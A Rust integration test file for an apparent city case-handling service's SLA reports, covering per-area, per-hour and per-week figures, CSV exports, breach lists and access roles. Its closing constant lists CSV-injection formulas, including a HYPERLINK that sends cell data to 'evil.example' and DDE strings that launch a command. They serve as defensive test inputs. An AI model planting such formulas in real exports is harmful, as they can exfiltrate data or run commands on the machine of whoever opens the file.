//! The SLA report behind the mayor's dashboard: figures per dimension for a
//! period, as JSON and as the same rows in CSV; for leads, the mayor and
//! admins only.

use std::{collections::HashMap, time::Duration};

use batline_core::{
    domain::{DutyStatus, Language},
    tracking_code::TrackingCode,
};
use chrono::{DateTime, Utc};
use serde_json::{Value, json};
use uuid::Uuid;

use crate::support::{TestApp, TestResult};

#[tokio::test]
async fn the_report_breaks_cases_down_and_exports_the_same_rows() -> TestResult {
    let app = TestApp::spawn().await?;
    app.add_responder("aino", "Aino", &[Language::Fi], DutyStatus::OnDuty).await?;
    for (phone, area) in [("+358401960001", "Kallio"), ("+358401960002", "Kallio"), ("+358401960003", "Vuosaari")] {
        app.text(phone, "Katuvalo on rikki").await?;
        let case = app.wait_for_cases(phone, 1, Duration::from_secs(10)).await?.remove(0);
        sqlx::query("UPDATE cases SET area = $2 WHERE id = $1").bind(case.id).bind(area).execute(&app.pool).await?;
    }
    // Aino answers and resolves one Kallio case; the resident gives it a 4.
    let kallio = app.cases_of("+358401960001").await?.remove(0);
    let aino = app.sign_in("aino").await?;
    assert_eq!(aino.post(&format!("/api/v1/cases/{}/replies", kallio.id), json!({ "body": "Hoidan." })).await?.0, 201);
    let (status, _) =
        aino.post(&format!("/api/v1/cases/{}/resolve", kallio.id), json!({ "summary": "Korjattu." })).await?;
    assert_eq!(status, 200);
    app.text("+358401960001", "4").await?;
    app.wait_all_filed(Duration::from_secs(10)).await?;

    let mayor = app.sign_in("backstop").await?;
    let (status, report) = mayor.get("/api/v1/reports/sla?by=area").await?;
    assert_eq!(status, 200, "{report}");
    let rows = report["rows"].as_array().cloned().unwrap_or_default();
    let row = |group: &str| rows.iter().find(|r| r["group"] == group).cloned().unwrap_or(Value::Null);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0]["group"], "Kallio", "largest group first");
    let k = row("Kallio");
    assert_eq!((k["cases"].as_i64(), k["open"].as_i64()), (Some(2), Some(1)));
    assert!(k["time_to_owner_p50"].as_f64().is_some_and(|s| (0.0..5.0).contains(&s)), "{k}");
    assert!(k["first_response_p50"].as_f64().is_some(), "one case was answered");
    assert!(k["resolution_p50"].as_f64().is_some());
    assert_eq!(k["first_response_within_sla"].as_f64(), Some(1.0), "the one decided clock was met");
    assert_eq!((k["satisfaction_avg"].as_f64(), k["satisfaction_answers"].as_i64()), (Some(4.0), Some(1)));
    let v = row("Vuosaari");
    assert!(v["first_response_p50"].is_null() && v["first_response_within_sla"].is_null(), "{v}");

    let (_, by_channel) = mayor.get("/api/v1/reports/sla?by=channel").await?;
    assert_eq!(by_channel["rows"][0]["group"], "sms");
    assert_eq!(by_channel["rows"][0]["cases"], 3);
    for by in ["topic", "responder", "hour"] {
        let (status, r) = mayor.get(&format!("/api/v1/reports/sla?by={by}")).await?;
        assert_eq!(status, 200, "{by}: {r}");
        assert_eq!(
            r["rows"].as_array().map(|rows| rows.iter().map(|r| r["cases"].as_i64().unwrap_or(0)).sum::<i64>()),
            Some(3)
        );
    }

    // The CSV export has exactly the rows and columns shown.
    let csv = app
        .http
        .get(format!("{}/api/v1/reports/sla?by=area&format=csv", app.console))
        .bearer_auth(mayor_token(&app).await?)
        .send()
        .await?;
    assert_eq!(csv.status(), 200);
    assert!(csv.headers().get("content-disposition").and_then(|v| v.to_str().ok()).is_some_and(|v| v.contains(".csv")));
    let text = csv.text().await?;
    let mut lines = text.lines();
    let header: Vec<&str> = lines.next().unwrap_or_default().split(',').collect();
    assert_eq!(header.len(), rows[0].as_object().map_or(0, |o| o.len()));
    assert_eq!(header[0], "group");
    assert_eq!(lines.count(), 2);

    // Roles and bad input.
    assert_eq!(aino.get("/api/v1/reports/sla").await?.0, 403);
    for bad in
        ["by=planet", "from=2026-11-30&to=2026-11-01", "from=yesterday", "from=2020-01-01&to=2026-01-01", "colour=red"]
    {
        let (status, body) = mayor.get(&format!("/api/v1/reports/sla?{bad}")).await?;
        assert_eq!(status, 422, "{bad}: {body}");
        assert!(body["detail"].as_str().is_some_and(|d| !d.is_empty()));
    }
    let (status, empty) = mayor.get("/api/v1/reports/sla?from=2020-01-01&to=2020-01-31").await?;
    assert_eq!((status, empty["rows"].as_array().map(Vec::len)), (200, Some(0)));
    app.teardown().await
}

async fn mayor_token(app: &TestApp) -> TestResult<String> {
    let r: Value = app
        .http
        .post(format!("{}/api/v1/sessions", app.console))
        .json(&json!({ "username": "backstop", "password": crate::support::PASSWORD }))
        .send()
        .await?
        .json()
        .await?;
    Ok(r["token"].as_str().unwrap_or_default().to_owned())
}

/// One case of a timeline with known answers, inserted directly with exact
/// timestamps (not through the clock), so every figure can be worked out by hand.
pub(crate) struct Planned {
    area: &'static str,
    topic: &'static str,
    channel: &'static str,
    owner: Uuid,
    /// Opened at, UTC.
    opened: &'static str,
    /// Seconds to a named owner.
    owned: i64,
    /// Seconds to a human's first response, if any.
    responded: Option<i64>,
    /// Seconds to resolution; `None` leaves the case open.
    resolved: Option<i64>,
    /// Whether the router swept the first-response clock (breached_at set) when it was late.
    fr_swept: bool,
    /// The resolution clock breached (only for open cases here).
    rs_breached: bool,
    acks_missed: usize,
    handoffs: usize,
    reopened: i32,
    score: Option<i32>,
    /// The owner an `sla_breached` event names for the first-response breach, if recorded.
    breached_owner: Option<Uuid>,
}

impl Planned {
    pub(crate) fn new(
        area: &'static str,
        topic: &'static str,
        channel: &'static str,
        owner: Uuid,
        opened: &'static str,
    ) -> Self {
        Planned {
            area,
            topic,
            channel,
            owner,
            opened,
            owned: 1,
            responded: None,
            resolved: None,
            fr_swept: true,
            rs_breached: false,
            acks_missed: 0,
            handoffs: 0,
            reopened: 0,
            score: None,
            breached_owner: None,
        }
    }
}

/// First-response and resolution targets of the catch-all policy: 15 min, 5 days.
const FR_TARGET: i64 = 900;
const RS_TARGET: i64 = 432_000;

/// [`insert_planned`] as a case from before the service catalogue: its topic
/// typed freely at the desk. Such cases stay in a deployed database (the
/// catalogue's constraint is `NOT VALID`); this writes one the same way, by
/// adding the case while the constraint is away and putting it back as the
/// migration did.
pub(crate) async fn insert_before_catalogue(app: &TestApp, other: Uuid, p: &Planned) -> TestResult<Uuid> {
    sqlx::query("ALTER TABLE cases DROP CONSTRAINT cases_topic_in_catalogue").execute(&app.pool).await?;
    let id = insert_planned(app, other, p).await?;
    sqlx::query(
        "ALTER TABLE cases ADD CONSTRAINT cases_topic_in_catalogue
             FOREIGN KEY (topic) REFERENCES topics (code) NOT VALID",
    )
    .execute(&app.pool)
    .await?;
    Ok(id)
}

pub(crate) async fn insert_planned(app: &TestApp, other: Uuid, p: &Planned) -> TestResult<Uuid> {
    let pool = &app.pool;
    let opened: DateTime<Utc> = p.opened.parse()?;
    let at = |secs: i64| opened + chrono::Duration::seconds(secs);
    let resident = Uuid::new_v4();
    sqlx::query("INSERT INTO residents (id) VALUES ($1)").bind(resident).execute(pool).await?;
    let id = Uuid::new_v4();
    sqlx::query(
        "INSERT INTO cases (id, tracking_code, resident_id, owner_id, channel, language, status, opened_at, owned_at,
                            owner_assigned_at, first_response_at, resolved_at, resolution_summary, area, topic,
                            reopened_count, satisfaction_score, satisfaction_at, first_response_due_at,
                            resolution_due_at)
         VALUES ($1, $2, $3, $4, $5, 'fi', $6, $7, $8, $8, $9, $10, $11, $12, $13, $14, $15, $16, $17, $18)",
    )
    .bind(id)
    .bind(TrackingCode::generate().to_string())
    .bind(resident)
    .bind(p.owner)
    .bind(p.channel)
    .bind(if p.resolved.is_some() { "resolved" } else { "open" })
    .bind(opened)
    .bind(at(p.owned))
    .bind(p.responded.map(at))
    .bind(p.resolved.map(at))
    .bind(p.resolved.map(|_| "Korjattu."))
    .bind(p.area)
    .bind(p.topic)
    .bind(p.reopened)
    .bind(p.score)
    .bind(p.score.map(|_| at(p.resolved.unwrap_or(0) + 60)))
    // As `store::cases::insert` writes them with the clocks below.
    .bind(at(FR_TARGET))
    .bind(at(RS_TARGET))
    .execute(pool)
    .await?;
    // The intake it came from: the report no longer reads it, but a real case has one.
    sqlx::query(
        "INSERT INTO intake (id, channel, sender, body, raw, received_at, case_id, filed_at)
         VALUES ($1, $2, 'resident', 'Katuvalo on rikki', '{}', $3, $4, $5)",
    )
    .bind(Uuid::new_v4())
    .bind(p.channel)
    .bind(opened)
    .bind(id)
    .bind(at(p.owned))
    .execute(pool)
    .await?;
    let fr_late = p.responded.is_none_or(|s| s > FR_TARGET);
    let clocks = [
        ("first_response", FR_TARGET, p.responded, (fr_late && p.fr_swept).then(|| at(FR_TARGET + 5))),
        ("resolution", RS_TARGET, p.resolved, p.rs_breached.then(|| at(RS_TARGET + 5))),
    ];
    for (target, secs, met, breached) in clocks {
        sqlx::query(
            "INSERT INTO sla_clocks (case_id, target, policy_id, started_at, warn_at, due_at, breached_at, met_at)
             VALUES ($1, $2, (SELECT id FROM sla_policies ORDER BY valid_from LIMIT 1), $3, $4, $5, $6, $7)",
        )
        .bind(id)
        .bind(target)
        .bind(opened)
        .bind(at(secs * 4 / 5))
        .bind(at(secs))
        .bind(breached)
        .bind(met.map(at))
        .execute(pool)
        .await?;
    }
    if let Some(owner) = p.breached_owner {
        sqlx::query(
            "INSERT INTO case_events (case_id, kind, actor_kind, at, data)
             VALUES ($1, 'sla_breached', 'system', $2, jsonb_build_object('target', 'first_response', 'owner_id', $3::uuid))",
        )
        .bind(id)
        .bind(at(FR_TARGET + 5))
        .bind(owner)
        .execute(pool)
        .await?;
    }
    for _ in 0..p.acks_missed {
        sqlx::query("INSERT INTO case_events (case_id, kind, actor_kind, at) VALUES ($1, 'ack_missed', 'system', $2)")
            .bind(id)
            .bind(at(300))
            .execute(pool)
            .await?;
    }
    for _ in 0..p.handoffs {
        sqlx::query(
            "INSERT INTO handoffs (id, case_id, from_id, to_id, note, status, offered_at, expires_at, answered_at)
             VALUES ($1, $2, $3, $4, 'Sinulle.', 'accepted', $5, $6, $5)",
        )
        .bind(Uuid::new_v4())
        .bind(id)
        .bind(other)
        .bind(p.owner)
        .bind(at(60))
        .bind(at(660))
        .execute(pool)
        .await?;
    }
    Ok(id)
}

/// The week of 2026-10-19 to 2026-10-25 (ISO 2026-W43) in Helsinki: clocks go
/// back from 04:00 EEST (UTC+3) to 03:00 EET (UTC+2) early on Sunday the 25th.
/// Returns the case ids by name.
pub(crate) async fn known_week(app: &TestApp, aino: Uuid, mikko: Uuid) -> TestResult<HashMap<&'static str, Uuid>> {
    let plans = [
        // K1, K2, K3: Monday to Wednesday; K2 and K3 tie on every duration.
        (
            "K1",
            Planned {
                owned: 2,
                responded: Some(300),
                resolved: Some(3_600),
                ..Planned::new("Kallio", "streets", "sms", aino, "2026-10-19T07:00:00Z")
            },
        ),
        (
            "K2",
            Planned {
                owned: 4,
                responded: Some(600),
                resolved: Some(7_200),
                score: Some(5),
                ..Planned::new("Kallio", "streets", "sms", aino, "2026-10-20T07:00:00Z")
            },
        ),
        (
            "K3",
            Planned {
                owned: 4,
                responded: Some(600),
                resolved: Some(7_200),
                score: Some(4),
                handoffs: 1,
                ..Planned::new("Kallio", "parks", "voice", mikko, "2026-10-21T12:00:00Z")
            },
        ),
        // K4: answered late (breached, recorded against Aino, who had it then), two
        // missed acknowledgements, a low score that reopened it, resolved again.
        (
            "K4",
            Planned {
                owned: 10,
                responded: Some(1_800),
                resolved: Some(86_400),
                score: Some(2),
                reopened: 1,
                acks_missed: 2,
                breached_owner: Some(aino),
                ..Planned::new("Kallio", "parks", "sms", mikko, "2026-10-22T18:00:00Z")
            },
        ),
        // K5: opened 03:30 EEST, resolved 04:30 EET: one hour on the wall clock,
        // two in truth. Answered late, before any router swept the clock.
        (
            "K5",
            Planned {
                owned: 6,
                responded: Some(1_200),
                resolved: Some(7_200),
                fr_swept: false,
                ..Planned::new("Kallio", "streets", "walk_in", aino, "2026-10-25T00:30:00Z")
            },
        ),
        // K6: 23:30 EET on Sunday the 25th, the last half hour of the period
        // (at UTC+3 it would fall on Monday): never answered, both clocks breached.
        (
            "K6",
            Planned {
                owned: 1,
                rs_breached: true,
                ..Planned::new("Kallio", "streets", "sms", aino, "2026-10-25T21:30:00Z")
            },
        ),
        // V1: answered, still open five days on: its resolution clock breached
        // (set here, so the test's router has nothing left to sweep).
        (
            "V1",
            Planned {
                owned: 3,
                responded: Some(120),
                rs_breached: true,
                ..Planned::new("Vuosaari", "streets", "sms", mikko, "2026-10-23T09:00:00Z")
            },
        ),
        // Just outside: 23:59:59 EEST on Sunday the 18th, and 00:00 EET on Monday the 26th.
        (
            "before",
            Planned {
                responded: Some(60),
                resolved: Some(600),
                ..Planned::new("Kallio", "streets", "sms", aino, "2026-10-18T20:59:59Z")
            },
        ),
        (
            "after",
            Planned {
                responded: Some(60),
                resolved: Some(600),
                ..Planned::new("Kallio", "streets", "sms", aino, "2026-10-25T22:00:00Z")
            },
        ),
    ];
    let mut ids = HashMap::new();
    for (name, plan) in &plans {
        let other = if plan.owner == aino { mikko } else { aino };
        ids.insert(*name, insert_planned(app, other, plan).await?);
    }
    Ok(ids)
}

fn close(actual: &Value, expected: f64) -> bool {
    actual.as_f64().is_some_and(|a| (a - expected).abs() <= 1e-9 * expected.abs().max(1.0))
}

/// Checks each named figure of `row` (null where `None`).
fn assert_figures(row: &Value, expected: &[(&str, Option<f64>)]) {
    for (field, want) in expected {
        match want {
            Some(want) => assert!(close(&row[field], *want), "{field}: expected {want}, got {} in {row}", row[field]),
            None => assert!(row[field].is_null(), "{field}: expected null, got {} in {row}", row[field]),
        }
    }
}

fn find<'a>(rows: &'a Value, group: &str) -> &'a Value {
    rows.as_array().and_then(|rows| rows.iter().find(|r| r["group"] == group)).unwrap_or(&Value::Null)
}

/// Parses a CSV download into its header and rows.
fn parse_csv(text: &str) -> TestResult<(Vec<String>, Vec<Vec<String>>)> {
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
    let header = reader.headers()?.iter().map(str::to_owned).collect();
    let rows = reader.records().map(|r| r.map(|r| r.iter().map(str::to_owned).collect())).collect::<Result<_, _>>()?;
    Ok((header, rows))
}

/// The CSV has exactly the JSON rows: same columns in order, same values
/// (numbers equal as parsed, null as an empty cell).
fn assert_csv_matches(csv: &str, rows: &Value) -> TestResult {
    let (header, lines) = parse_csv(csv)?;
    let rows = rows.as_array().cloned().unwrap_or_default();
    assert_eq!(lines.len(), rows.len(), "as many CSV rows as JSON rows");
    for (line, row) in lines.iter().zip(&rows) {
        let object = row.as_object().cloned().unwrap_or_default();
        assert_eq!(header.len(), object.len(), "the CSV has the JSON's columns: {header:?}");
        for (column, cell) in header.iter().zip(line) {
            let value = &object[column];
            match value {
                Value::Null => assert_eq!(cell, "", "{column} is empty in CSV"),
                // Open cases grow older between the two requests.
                Value::Number(n) if column == "open_age_p50" => {
                    let parsed: f64 = cell.parse()?;
                    assert!(n.as_f64().is_some_and(|n| (0.0..60.0).contains(&(parsed - n))), "{column}: {cell} vs {n}");
                }
                // serde_json's fast float parser may land one ULP off the
                // exact value the server wrote; nothing coarser is allowed.
                Value::Number(n) => {
                    let parsed: f64 = cell.parse()?;
                    let json = n.as_f64().unwrap_or(f64::NAN);
                    assert!(
                        (parsed - json).abs() <= 4.0 * f64::EPSILON * json.abs(),
                        "{column}: CSV {cell} vs JSON {n}"
                    );
                }
                Value::String(s) => assert_eq!(cell, s, "{column}"),
                other => anyhow::bail!("unexpected JSON value {other} in {column}"),
            }
        }
    }
    Ok(())
}

#[tokio::test]
async fn a_known_week_gives_exact_medians_percentiles_and_breaches_in_json_and_csv() -> TestResult {
    let app = TestApp::spawn().await?;
    let aino = app.add_responder("aino", "Aino", &[Language::Fi], DutyStatus::OnDuty).await?;
    let mikko = app.add_responder("mikko", "Mikko", &[Language::Fi], DutyStatus::OnDuty).await?;
    let ids = known_week(&app, aino.id, mikko.id).await?;
    let mayor = app.sign_in("backstop").await?;
    let week = "from=2026-10-19&to=2026-10-25";

    // By area. Kallio's six cases: to owner [1 2 4 4 6 10], first response
    // [300 600 600 1200 1800] (K6 never answered), resolution [3600 7200
    // 7200 7200 86400] (K5 lasted two real hours across the change).
    let requested = Utc::now();
    let (status, report) = mayor.get(&format!("/api/v1/reports/sla?{week}&by=area")).await?;
    let answered = Utc::now();
    assert_eq!(status, 200, "{report}");
    assert_eq!(report["rows"].as_array().map(Vec::len), Some(2));
    let kallio = find(&report["rows"], "Kallio");
    assert_eq!(kallio["cases"], 6, "neither 23:59:59 EEST on the 18th nor 00:00 EET on the 26th: {kallio}");
    assert_figures(
        kallio,
        &[
            ("time_to_owner_p50", Some(4.0)),
            ("time_to_owner_p90", Some(8.0)), // position 4.5: 6 + 0.5 × (10 − 6)
            ("first_response_p50", Some(600.0)),
            ("first_response_p90", Some(1_560.0)), // position 3.6: 1200 + 0.6 × 600
            ("resolution_p50", Some(7_200.0)),
            ("resolution_p90", Some(54_720.0)), // position 3.6: 7200 + 0.6 × 79200
            ("first_response_within_sla", Some(0.5)),
            ("resolution_within_sla", Some(5.0 / 6.0)),
            ("handoffs_per_case", Some(1.0 / 6.0)),
            ("satisfaction_avg", Some(11.0 / 3.0)),
        ],
    );
    for (field, want) in [
        ("responded", 5),
        ("resolved", 5),
        ("first_response_decided", 6),
        ("first_response_breaches", 3), // K4 swept, K5 met late unswept, K6 never answered
        ("resolution_decided", 6),
        ("resolution_breaches", 1),
        ("missed_acknowledgements", 2),
        ("reopened", 1),
        ("open", 1),
        ("satisfaction_answers", 3),
    ] {
        assert_eq!(kallio[field], want, "{field} in {kallio}");
    }
    let k6_opened: DateTime<Utc> = "2026-10-25T21:30:00Z".parse()?;
    let age = kallio["open_age_p50"].as_f64().unwrap_or(-1.0);
    let (low, high) =
        ((requested - k6_opened).num_seconds() as f64 - 1.0, (answered - k6_opened).num_seconds() as f64 + 1.0);
    assert!((low..=high).contains(&age), "K6's age {age} between {low} and {high}");
    let vuosaari = find(&report["rows"], "Vuosaari");
    assert_figures(
        vuosaari,
        &[
            ("first_response_p50", Some(120.0)),
            ("first_response_p90", Some(120.0)),
            ("resolution_p50", None),
            ("first_response_within_sla", Some(1.0)),
            ("resolution_within_sla", Some(0.0)),
        ],
    );
    assert_eq!((vuosaari["resolution_decided"].as_i64(), vuosaari["resolution_breaches"].as_i64()), (Some(1), Some(1)));

    // The CSV of each breakdown is exactly its JSON.
    for by in ["area", "topic", "channel", "responder", "hour", "week", "all"] {
        let path = format!("/api/v1/reports/sla?{week}&by={by}");
        let (_, json) = mayor.get(&path).await?;
        let (status, content_type, csv) = mayor.get_text(&format!("{path}&format=csv")).await?;
        assert_eq!((status, content_type.as_str()), (200, "text/csv; charset=utf-8"));
        assert_csv_matches(&csv, &json["rows"])?;
    }

    // Hours and weeks are Helsinki time on either side of the change.
    let (_, by_hour) = mayor.get(&format!("/api/v1/reports/sla?{week}&by=hour")).await?;
    let hours: Vec<(String, i64)> = by_hour["rows"]
        .as_array()
        .map(|rows| {
            rows.iter()
                .map(|r| (r["group"].as_str().unwrap_or("").to_owned(), r["cases"].as_i64().unwrap_or(0)))
                .collect()
        })
        .unwrap_or_default();
    let expected_hours = [("03", 1), ("10", 2), ("12", 1), ("15", 1), ("21", 1), ("23", 1)];
    assert_eq!(hours, expected_hours.map(|(h, n)| (h.to_owned(), n)), "in hour order");
    let (_, by_week) = mayor.get(&format!("/api/v1/reports/sla?{week}&by=week")).await?;
    assert_eq!(by_week["rows"].as_array().map(Vec::len), Some(1));
    assert_eq!(
        (by_week["rows"][0]["group"].as_str(), by_week["rows"][0]["cases"].as_i64()),
        (Some("2026-W43"), Some(7))
    );
    let (_, all) = mayor.get(&format!("/api/v1/reports/sla?{week}&by=all")).await?;
    // All seven: to owner [1 2 3 4 4 6 10], first response [120 300 600 600 1200 1800].
    assert_figures(&all["rows"][0], &[("first_response_p50", Some(600.0)), ("time_to_owner_p50", Some(4.0))]);

    // Filters: SMS only leaves K1, K2, K4 and K6 in Kallio: to owner [1 2 4 10].
    let (_, sms) = mayor.get(&format!("/api/v1/reports/sla?{week}&by=area&channel=sms")).await?;
    let kallio_sms = find(&sms["rows"], "Kallio");
    assert_eq!(kallio_sms["cases"], 4);
    assert_figures(kallio_sms, &[("time_to_owner_p50", Some(3.0)), ("time_to_owner_p90", Some(8.2))]);
    let (_, topics) = mayor.get(&format!("/api/v1/reports/sla?{week}&by=topic&area=Kallio")).await?;
    assert_eq!(
        (find(&topics["rows"], "streets")["cases"].as_i64(), find(&topics["rows"], "parks")["cases"].as_i64()),
        (Some(4), Some(2))
    );
    let (_, parks) = mayor.get(&format!("/api/v1/reports/sla?{week}&by=channel&topic=parks")).await?;
    assert_eq!(parks["rows"].as_array().map(Vec::len), Some(2), "K3 by voice, K4 by SMS: {parks}");
    assert_eq!((parks["channel"].is_null(), parks["topic"].as_str()), (true, Some("parks")), "the scope is echoed");

    // The day boundaries: the 26th begins at 00:00 EET (22:00 UTC on the 25th).
    let (_, monday) = mayor.get("/api/v1/reports/sla?from=2026-10-26&to=2026-10-26&by=all").await?;
    assert_eq!(monday["rows"][0]["cases"], 1);
    let (_, sunday) = mayor.get("/api/v1/reports/sla?from=2026-10-25&to=2026-10-25&by=all").await?;
    assert_eq!(sunday["rows"][0]["cases"], 2, "K5 and K6 in the 25-hour Sunday");

    // Weekly trends: every ISO week of the period, the quiet one too.
    let trend_path = "/api/v1/reports/trends?from=2026-10-12&to=2026-11-08";
    let (status, trends) = mayor.get(trend_path).await?;
    assert_eq!(status, 200, "{trends}");
    let weeks: Vec<(&str, i64)> = trends["rows"]
        .as_array()
        .map(|rows| {
            rows.iter().map(|r| (r["group"].as_str().unwrap_or(""), r["cases"].as_i64().unwrap_or(-1))).collect()
        })
        .unwrap_or_default();
    assert_eq!(weeks, [("2026-W42", 1), ("2026-W43", 7), ("2026-W44", 1), ("2026-W45", 0)]);
    let w43 = find(&trends["rows"], "2026-W43");
    assert_figures(
        w43,
        &[
            ("first_response_p50", Some(600.0)),
            ("resolution_p90", Some(54_720.0)),
            ("first_response_within_sla", Some(4.0 / 7.0)),
        ],
    );
    let (_, _, trends_csv) = mayor.get_text(&format!("{trend_path}&format=csv")).await?;
    assert_csv_matches(&trends_csv, &trends["rows"])?;

    // The breaches, latest deadline first, each naming who owned the case when it breached.
    let (status, breaches) = mayor.get(&format!("/api/v1/reports/breaches?{week}")).await?;
    assert_eq!(status, 200, "{breaches}");
    assert_eq!(breaches["total"], 5);
    let listed: Vec<(Uuid, &str, &str)> = breaches["rows"]
        .as_array()
        .map(|rows| {
            rows.iter()
                .map(|r| {
                    (
                        r["case_id"].as_str().and_then(|s| s.parse().ok()).unwrap_or_default(),
                        r["target"].as_str().unwrap_or(""),
                        r["owner_name"].as_str().unwrap_or(""),
                    )
                })
                .collect()
        })
        .unwrap_or_default();
    assert_eq!(
        listed,
        [
            (ids["K6"], "resolution", "Aino"),
            (ids["V1"], "resolution", "Mikko"),
            (ids["K6"], "first_response", "Aino"),
            (ids["K5"], "first_response", "Aino"),
            (ids["K4"], "first_response", "Aino"),
        ],
        "K4 is Mikko's now but breached in Aino's hands"
    );
    let k5 = &breaches["rows"][3];
    assert!(k5["breached_at"].is_null() && k5["met_at"].is_string(), "met late, never swept: {k5}");
    assert_eq!(k5["due_at"], "2026-10-25T00:45:00Z");
    assert!(breaches["rows"][0]["tracking_code"].as_str().is_some_and(|c| c.len() == 9));
    let (_, limited) = mayor.get(&format!("/api/v1/reports/breaches?{week}&limit=1")).await?;
    assert_eq!((limited["total"].as_i64(), limited["rows"].as_array().map(Vec::len)), (Some(5), Some(1)));
    let (_, _, breaches_csv) = mayor.get_text(&format!("/api/v1/reports/breaches?{week}&format=csv")).await?;
    assert_csv_matches(&breaches_csv, &breaches["rows"])?;

    // The bundle is the same figures (open cases' age aside: it grows between requests).
    let (status, dashboard) = mayor.get(&format!("/api/v1/reports/dashboard?{week}&by=topic")).await?;
    assert_eq!(status, 200, "{dashboard}");
    assert_eq!(ageless(&dashboard["summary"]), ageless(&all["rows"][0]));
    assert_eq!(ageless(&dashboard["rows"]), ageless(&topics_all(&mayor, week).await?));
    assert_eq!(ageless(&dashboard["districts"]), ageless(&report["rows"]));
    assert_eq!(ageless(&dashboard["trends"]), ageless(&by_week["rows"]));
    assert_eq!(dashboard["breaches"]["rows"], breaches["rows"]);
    assert_eq!(mayor.get(&format!("/api/v1/reports/dashboard?{week}&format=csv")).await?.0, 422);
    app.teardown().await
}

/// `value` with every `open_age_p50` taken out.
fn ageless(value: &Value) -> Value {
    match value {
        Value::Array(items) => Value::Array(items.iter().map(ageless).collect()),
        Value::Object(map) => Value::Object(
            map.iter().filter(|(k, _)| *k != "open_age_p50").map(|(k, v)| (k.clone(), ageless(v))).collect(),
        ),
        other => other.clone(),
    }
}

async fn topics_all(mayor: &crate::support::Console, week: &str) -> TestResult<Value> {
    Ok(mayor.get(&format!("/api/v1/reports/sla?{week}&by=topic")).await?.1["rows"].clone())
}

#[tokio::test]
async fn every_report_is_for_leads_the_mayor_and_admins_only() -> TestResult {
    let app = TestApp::spawn().await?;
    let lead = app.add_responder("linnea", "Linnea", &[Language::Fi], DutyStatus::OnDuty).await?;
    let admin = app.add_responder("aapo", "Aapo", &[Language::Fi], DutyStatus::Off).await?;
    app.add_responder("aino", "Aino", &[Language::Fi], DutyStatus::OnDuty).await?;
    let point = app.add_walk_in_point("Batcave Kallio", "Kallio").await?;
    app.add_desk("veera", "Veera", point).await?;
    for (id, role) in [(lead.id, "lead"), (admin.id, "admin")] {
        sqlx::query("UPDATE responders SET role = $2 WHERE id = $1").bind(id).bind(role).execute(&app.pool).await?;
    }
    let paths =
        ["/api/v1/reports/sla", "/api/v1/reports/trends", "/api/v1/reports/breaches", "/api/v1/reports/dashboard"];
    for path in paths {
        let anonymous = app.http.get(format!("{}{path}", app.console)).send().await?;
        assert_eq!(anonymous.status(), 401, "{path} without a session");
        for who in ["aino", "veera"] {
            assert_eq!(app.sign_in(who).await?.get(path).await?.0, 403, "{path} for {who}");
        }
        for who in ["linnea", "aapo", "backstop"] {
            let (status, body) = app.sign_in(who).await?.get(path).await?;
            assert_eq!(status, 200, "{path} for {who}: {body}");
        }
    }
    let mayor = app.sign_in("backstop").await?;
    for bad in ["channel=fax", "limit=0", "limit=10001", "area=", "by=week&format=xml", "topic=%20", "area=%00"] {
        let (status, body) = mayor.get(&format!("/api/v1/reports/breaches?{bad}")).await?;
        assert_eq!(status, 422, "{bad}: {body}");
    }
    // Control characters are blanked wherever text comes in (issue 17,
    // item 7): a filter with a NUL is a filter like any other, not a 500.
    let (status, body) = mayor.get("/api/v1/reports/breaches?area=Kal%00lio").await?;
    assert_eq!((status, &body["area"]), (200, &serde_json::json!("Kal lio")), "{body}");
    app.teardown().await
}

/// The in-memory figures see every committed change, including one made by
/// a transaction that was still running, with an older transaction id than
/// a change already seen, when the figures last looked.
#[tokio::test]
async fn the_figures_in_memory_miss_no_commit_however_late() -> TestResult {
    use batline_core::{
        figures::Figures,
        figures::{Filter, Grouping},
    };
    let app = TestApp::spawn().await?;
    let aino = app.add_responder("aino", "Aino", &[Language::Fi], DutyStatus::OnDuty).await?;
    let mikko = app.add_responder("mikko", "Mikko", &[Language::Fi], DutyStatus::OnDuty).await?;
    let ids = known_week(&app, aino.id, mikko.id).await?;
    let figures = Figures::new(app.pool.clone());
    let week = Filter::helsinki_days("2026-10-19".parse()?, "2026-10-25".parse()?)?;
    let all =
        |rows: Vec<batline_core::figures::ReportRow>| rows.into_iter().next().ok_or_else(|| anyhow::anyhow!("no row"));
    let before = all(figures.report(&week, Grouping::All, Utc::now()).await?)?;
    assert_eq!((before.cases, before.satisfaction_answers, before.resolved), (7, 3, 5));

    // The older transaction scores K1 and waits; a younger one resolves V1 and commits.
    let mut older = app.pool.begin().await?;
    sqlx::query("UPDATE cases SET satisfaction_score = 1, satisfaction_at = resolved_at WHERE id = $1")
        .bind(ids["K1"])
        .execute(&mut *older)
        .await?;
    sqlx::query("UPDATE cases SET status = 'resolved', resolved_at = opened_at + interval '6 days', resolution_summary = 'x' WHERE id = $1")
        .bind(ids["V1"])
        .execute(&app.pool)
        .await?;
    let during = all(figures.report(&week, Grouping::All, Utc::now()).await?)?;
    assert_eq!((during.satisfaction_answers, during.resolved), (3, 6), "the younger commit is seen, the open one not");
    older.commit().await?;
    let after = all(figures.report(&week, Grouping::All, Utc::now()).await?)?;
    assert_eq!((after.satisfaction_answers, after.resolved), (4, 6), "the older commit is seen once committed");
    assert_eq!(after.satisfaction_avg, Some((5.0 + 4.0 + 2.0 + 1.0) / 4.0));

    // A new case through the real path shows up, with its clocks' deadlines.
    app.text("+358401960099", "Katuvalo").await?;
    let case = app.wait_for_cases("+358401960099", 1, Duration::from_secs(10)).await?.remove(0);
    let today =
        Filter::period(case.opened_at - chrono::Duration::hours(1), case.opened_at + chrono::Duration::hours(1));
    let row = all(figures.report(&today, Grouping::All, Utc::now()).await?)?;
    assert_eq!((row.cases, row.open, row.first_response_decided), (1, 1, 0), "{row:?}");
    // An hour on, its 15-minute first-response deadline has passed unmet: a breach, swept or not.
    let later = all(figures.report(&today, Grouping::All, Utc::now() + chrono::Duration::hours(1)).await?)?;
    assert_eq!((later.first_response_decided, later.first_response_breaches), (1, 1), "{later:?}");
    app.teardown().await
}

/// Areas typed as free text, each starting the way a spreadsheet formula
/// can (OWASP's CSV injection list), and one plain one to show plain text
/// passes as it is.
const FORMULA_AREAS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "puistot",
];

/// Every CSV Batline writes (the SLA report, the breaches, the dashboard's
